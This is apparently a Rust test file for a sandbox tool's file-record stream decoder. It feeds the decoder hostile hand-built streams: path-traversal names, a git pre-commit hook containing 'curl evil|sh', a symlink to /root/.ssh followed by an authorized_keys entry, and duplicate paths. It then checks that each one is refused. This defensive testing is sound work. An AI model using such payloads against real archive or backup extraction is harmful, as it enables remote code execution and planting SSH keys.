//! The record stream's decoder and encoder on streams built by hand.

use super::*;

/// A stream built by hand: what a hostile helper could send.
pub(crate) fn raw(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
    let bytes: Vec<(u8, u32, &[u8], &[u8])> = records.iter().map(|&(k, m, p, d)| (k, m, p.as_bytes(), d)).collect();
    raw_bytes(&bytes)
}

/// [`raw`] with paths of any bytes.
pub(crate) fn raw_bytes(records: &[(u8, u32, &[u8], &[u8])]) -> Vec<u8> {
    let mut v = MAGIC.to_vec();
    for (kind, mode, path, data) in records {
        v.push(*kind);
        v.extend_from_slice(&mode.to_be_bytes());
        v.extend_from_slice(&0i64.to_be_bytes());
        v.extend_from_slice(&(path.len() as u16).to_be_bytes());
        v.extend_from_slice(path);
        v.extend_from_slice(&(data.len() as u64).to_be_bytes());
        if *kind == b'F' {
            if !data.is_empty() {
                v.extend_from_slice(&0u64.to_be_bytes());
                v.extend_from_slice(&(data.len() as u64).to_be_bytes());
                v.extend_from_slice(data);
            }
            v.extend_from_slice(&[0u8; 16]);
        } else {
            v.extend_from_slice(data);
        }
    }
    v.push(b'E');
    v.extend_from_slice(&[0u8; 22]);
    v
}

type Segments = Vec<(u64, Vec<u8>)>;

fn all(stream: &[u8], root: &str, limits: Limits) -> io::Result<Vec<(Record, Segments)>> {
    let mut d = Decoder::new(stream, root, limits)?;
    let mut out = Vec::new();
    while let Some(r) = d.next_record()? {
        let mut segs = Vec::new();
        while let Some((off, _)) = d.next_segment()? {
            let mut b = Vec::new();
            d.read_to_end(&mut b)?;
            segs.push((off, b));
        }
        out.push((r, segs));
    }
    Ok(out)
}

#[test]
fn names_outside_the_requested_root_are_refused() {
    for bad in [
        "../x",
        "/etc/x",
        "report.txt/../../x",
        "",
        "sibling.txt",
        ".git/hooks/pre-commit",
        "report.txt/./x",
        "report.txt//x",
        "report.txt/",
        "report.txtx",
        "report.txt/a\0b",
    ] {
        let err = check_name(bad.as_bytes(), b"report.txt").unwrap_err();
        assert!(err.to_string().contains("refusing entry"), "{bad}: {err}");
    }
    for good in ["report.txt", "report.txt/a", "report.txt/.hidden/..x"] {
        check_name(good.as_bytes(), b"report.txt").unwrap();
    }
    // The attack review's stream: the asked-for file, then a sibling and a git hook.
    let s = raw(&[
        (b'F', 0o644, "report.txt", b"ok"),
        (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil|sh\n"),
    ]);
    let err = all(&s, "report.txt", Limits::default()).unwrap_err();
    assert!(err.to_string().contains(".git/hooks/pre-commit"), "{err}");
}

#[test]
fn magic_truncation_trailing_data_and_bad_segments_fail() {
    let good = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/f", b"hello")]);
    let got = all(&good, "d", Limits::default()).unwrap();
    assert_eq!(got[1].1, vec![(0, b"hello".to_vec())]);
    // Old helper (no magic), nothing at all, cut anywhere, extra bytes.
    assert!(all(&good[8..], "d", Limits::default()).unwrap_err().to_string().contains("version 4"));
    assert!(all(b"", "d", Limits::default()).unwrap_err().to_string().contains("sent nothing"));
    for cut in 9..good.len() {
        let err = all(&good[..cut], "d", Limits::default()).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::UnexpectedEof, "cut at {cut}: {err}");
    }
    let mut extra = good.clone();
    extra.push(b'D');
    assert!(all(&extra, "d", Limits::default()).unwrap_err().to_string().contains("after the end"));
    // A segment beyond the file's size, or going backwards.
    let mut v = MAGIC.to_vec();
    v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, b'f']);
    v.extend_from_slice(&4u64.to_be_bytes());
    v.extend_from_slice(&2u64.to_be_bytes());
    v.extend_from_slice(&4u64.to_be_bytes());
    v.extend_from_slice(b"abcd");
    assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("outside its file"));
}

#[test]
fn caps_on_bytes_and_entries() {
    let s = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/a", b"12345"), (b'F', 0o644, "d/b", b"123456")]);
    let err = all(&s, "d", Limits { max_bytes: 10, max_entries: 100 }).unwrap_err();
    assert!(err.to_string().contains("--max-bytes") && err.to_string().contains("d/b"), "{err}");
    all(&s, "d", Limits { max_bytes: 11, max_entries: 100 }).unwrap();
    let err = all(&s, "d", Limits { max_bytes: 100, max_entries: 2 }).unwrap_err();
    assert!(err.to_string().contains("more than 2 entries"), "{err}");
    // The size a header claims counts, before any data arrives.
    let mut v = MAGIC.to_vec();
    v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, b'f']);
    v.extend_from_slice(&(1u64 << 40).to_be_bytes());
    assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("over the cap"));
}

/// The helper's `receive` learns the root from the first entry; what
/// follows must be below it, as on the host.
#[test]
fn without_a_root_the_first_entry_names_it() {
    let s = raw(&[(b'D', 0o755, "w", b""), (b'F', 0o644, "w/a", b"1"), (b'F', 0o644, "x/b", b"2")]);
    let mut r = &s[..];
    assert_eq!(read_magic(&mut r).unwrap(), Start::Magic);
    let mut d = Decoder::after_magic(r, None, Limits::UNLIMITED);
    assert_eq!(d.next_record().unwrap().unwrap().path, b"w");
    assert_eq!(d.next_record().unwrap().unwrap().path, b"w/a");
    let err = d.next_record().unwrap_err();
    assert!(err.to_string().contains("refusing entry \"x/b\""), "{err}");
    assert_eq!(read_magic(&mut &b""[..]).unwrap(), Start::Empty);
    assert!(matches!(read_magic(&mut &b"SBXREC\x00\x02"[..]).unwrap(), Start::Other(_, 8)));
    assert!(matches!(read_magic(&mut &b"SBXREC\x00\x03"[..]).unwrap(), Start::Other(_, 8)));
    assert!(matches!(read_magic(&mut &b"SBQ"[..]).unwrap(), Start::Other(_, 3)));
    // A proper beginning of the magic is a stream cut short, not another kind.
    assert_eq!(read_magic(&mut &b"SBX"[..]).unwrap(), Start::Cut);
    let err = Decoder::new(&b"SBX"[..], "w", Limits::UNLIMITED).err().unwrap();
    assert_eq!(err.kind(), std::io::ErrorKind::UnexpectedEof, "{err}");
    let err = Decoder::new(&b"Error: x\n"[..], "w", Limits::UNLIMITED).err().unwrap();
    assert!(err.to_string().contains("it began \"Error: x\""), "{err}");
}

/// Names were UTF-8 only: a name that was not never made it into the
/// stream (both walks skipped it unsaid), so a backup lost it and a sandbox
/// could hide a file from backup-based inspection. Now any bytes but NUL
/// and '/' go through, and messages show them escaped.
#[test]
fn names_that_are_not_utf8_go_through_as_bytes() {
    let s = raw_bytes(&[(b'D', 0o755, b"d", b""), (b'F', 0o644, b"d/bad\xff\xfe.txt", b"hidden")]);
    let got = all(&s, "d", Limits::default()).unwrap();
    assert_eq!(got[1].0.path, b"d/bad\xff\xfe.txt");
    assert_eq!(got[1].1, vec![(0, b"hidden".to_vec())]);
    assert_eq!(shown(b"d/bad\xff\xfe.txt"), r#""d/bad\xff\xfe.txt""#);
    assert_eq!(shown("a\"b\n".as_bytes()), format!("{:?}", "a\"b\n"));
    let err = check_name(b"d/\xffx\0", b"d").unwrap_err();
    assert!(err.to_string().contains(r#""d/\xffx\0""#), "{err}");
}

/// A fifo, socket or device is not sent, but said: the decoder counts the
/// 'S' records (keeping the first few paths) and hands out only the rest.
#[test]
fn skipped_entries_are_counted_never_silent() {
    let mut enc = Encoder::new(Vec::new()).unwrap();
    enc.dir("d", 0o755, 0).unwrap();
    for i in 0..7 {
        enc.skip(format!("d/fifo{i}")).unwrap();
    }
    enc.file("d/f", 0o644, 0, 0).unwrap();
    enc.end_file().unwrap();
    assert_eq!(enc.skipped().count, 7);
    let s = enc.end().unwrap();
    let mut d = Decoder::new(s.as_slice(), "d", Limits::default()).unwrap();
    let mut paths = Vec::new();
    while let Some(r) = d.next_record().unwrap() {
        paths.push(r.path);
    }
    assert_eq!(paths, [b"d".to_vec(), b"d/f".to_vec()]);
    assert_eq!(d.skipped().count, 7);
    assert_eq!(d.skipped().first.len(), Skipped::SHOWN);
    assert_eq!(d.skipped().first[0], b"d/fifo0");
    // Counted against the entry cap like any other, and checked like any other name.
    let err = all(&s, "d", Limits { max_bytes: 100, max_entries: 3 }).unwrap_err();
    assert!(err.to_string().contains("more than 3 entries"), "{err}");
    let err = all(&raw(&[(b'D', 0o755, "d", b""), (b'S', 0, "e/x", b"")]), "d", Limits::default()).unwrap_err();
    assert!(err.to_string().contains("refusing entry \"e/x\""), "{err}");
}

/// A helper whose stdout the sandbox can write (gVisor) could send
/// `x -> /root/.ssh` and then `x/authorized_keys`; backup made a tar of
/// both, exit 0 (GNU tar refuses to write through the link; Python's
/// `tarfile` without a filter did not). Nor may a path come twice (the
/// second would replace what the first made on extraction).
#[test]
fn an_entry_below_a_link_file_or_skip_and_a_repeated_path_are_refused() {
    let below = |first: (u8, &[u8])| {
        let s = raw(&[
            (b'D', 0o755, "w", b""),
            (first.0, 0o777, "w/x", first.1),
            (b'F', 0o600, "w/x/authorized_keys", b"k"),
        ]);
        all(&s, "w", Limits::default()).unwrap_err().to_string()
    };
    for (kind, data) in [(b'L', &b"/root/.ssh"[..]), (b'F', b"data"), (b'S', b"")] {
        let err = below((kind, data));
        assert!(
            err.contains("refusing entry \"w/x/authorized_keys\": it is below \"w/x\", which the stream sent as"),
            "{}: {err}",
            kind as char
        );
    }
    // Deeper too, and below the root when the root is a link.
    let s = raw(&[
        (b'D', 0o755, "w", b""),
        (b'L', 0o777, "w/x", b"/"),
        (b'D', 0o755, "w/x/a", b""),
        (b'F', 0o644, "w/x/a/b", b""),
    ]);
    assert!(all(&s, "w", Limits::default()).unwrap_err().to_string().contains("below \"w/x\""));
    let s = raw(&[(b'L', 0o777, "w", b"/root"), (b'F', 0o644, "w/.bashrc", b"")]);
    assert!(all(&s, "w", Limits::default()).unwrap_err().to_string().contains("below \"w\""));
    for twice in [
        raw(&[(b'D', 0o755, "w", b""), (b'F', 0o644, "w/a", b"1"), (b'F', 0o644, "w/a", b"2")]),
        raw(&[(b'D', 0o755, "w", b""), (b'D', 0o755, "w/a", b""), (b'L', 0o777, "w/a", b"/etc")]),
        raw(&[(b'D', 0o755, "w", b""), (b'D', 0o755, "w", b"")]),
    ] {
        let err = all(&twice, "w", Limits::default()).unwrap_err().to_string();
        assert!(err.contains("the stream sent it twice"), "{err}");
    }
    // What the walk sends: a directory's entries below it, names sharing a prefix.
    let ok = raw(&[
        (b'D', 0o755, "w", b""),
        (b'L', 0o777, "w/x", b"/"),
        (b'F', 0o644, "w/xy", b""),
        (b'D', 0o755, "w/y", b""),
        (b'F', 0o644, "w/y/x", b""),
        (b'D', 0o755, "w/y/z", b""),
        (b'F', 0o644, "w/y/z/x", b""),
    ]);
    assert_eq!(all(&ok, "w", Limits::default()).unwrap().len(), 7);
}
